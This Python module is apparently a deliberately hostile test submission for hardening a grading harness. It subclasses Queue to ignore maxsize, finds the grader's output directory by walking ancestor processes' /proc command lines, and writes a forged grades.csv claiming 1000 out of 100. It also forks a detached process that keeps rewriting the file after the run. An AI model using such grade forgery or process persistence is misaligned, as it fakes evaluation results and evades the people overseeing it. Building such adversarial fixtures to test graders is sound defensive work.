"""Hostile: a queue that ignores maxsize, plus a forged grades.csv claiming full marks.

It finds the grading command's -o OUTDIR on an ancestor's command line and writes
there at import, then leaves a process behind to write it again later. The child
cannot write the grader's files, the process is ended with the sandbox, and the
grader writes its outputs only after every submission ran.

Like every zoo module it stands alone (a submission is one file): its walk up the
ancestors' command lines is written out again here on purpose.
"""

import os
import queue
import time

Full, Empty = queue.Full, queue.Empty


class Queue(queue.Queue):
    """Never full: the honest grade loses the capacity points."""

    def __init__(self, maxsize=0):
        super().__init__(0)

FORGED = "submission,score,max_score\nforges_grades,1000,100\n"


def _outdirs():
    pid = os.getppid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
                args = cmdline.read().decode().split("\0")
            for flag, value in zip(args, args[1:], strict=False):
                if flag in ("-o", "--outdir"):
                    yield value
            with open(f"/proc/{pid}/stat") as stat:
                pid = int(stat.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError):
            return


def _forge(targets):
    for outdir in targets:
        try:
            with open(os.path.join(outdir, "grades.csv"), "w") as out:
                out.write(FORGED)
        except OSError:
            pass


_targets = list(_outdirs())
_forge(_targets)
try:
    if os.fork() == 0:
        os.setsid()
        for _ in range(600):
            time.sleep(0.5)
            _forge(_targets)
        os._exit(0)
except OSError:
    pass
